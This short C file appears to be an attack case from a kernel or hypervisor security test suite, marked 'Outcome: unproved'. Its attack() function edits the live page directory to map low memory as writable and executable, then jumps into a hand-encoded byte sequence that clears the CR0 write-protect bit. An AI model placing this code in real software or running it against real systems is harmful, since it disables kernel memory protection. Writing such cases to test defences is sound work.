// SPDX-License-Identifier: MIT
// Attack: runs data below all addresses that are in use (the reference calls it)
// Outcome: unproved
#include <stdint.h>

#define PRESENT_WRITABLE_LARGE 0x83u // Intel SDM, volume 3, 4.3
#define KERNEL_BASE            0x80000000u

static void attack(void)
{
    static const uint8_t no_protection[] = {
        0x0f, 0x20, 0xc0,             // mov %cr0, %eax
        0x25, 0xff, 0xff, 0xfe, 0xff, // and $~CR0.WP, %eax
        0x0f, 0x22, 0xc0, 0xc3,       // mov %eax, %cr0; ret
    };
    uint32_t directory;

    __asm__ volatile("movl %%cr3, %0" : "=r"(directory));
    *(uint32_t *)(directory + KERNEL_BASE) = PRESENT_WRITABLE_LARGE; // the first 4 MiB at 0, too
    __asm__ volatile("movl %0, %%cr3; call *%1"
                     :
                     : "r"(directory), "r"((uint32_t)no_protection - KERNEL_BASE)
                     : "eax", "memory");
}
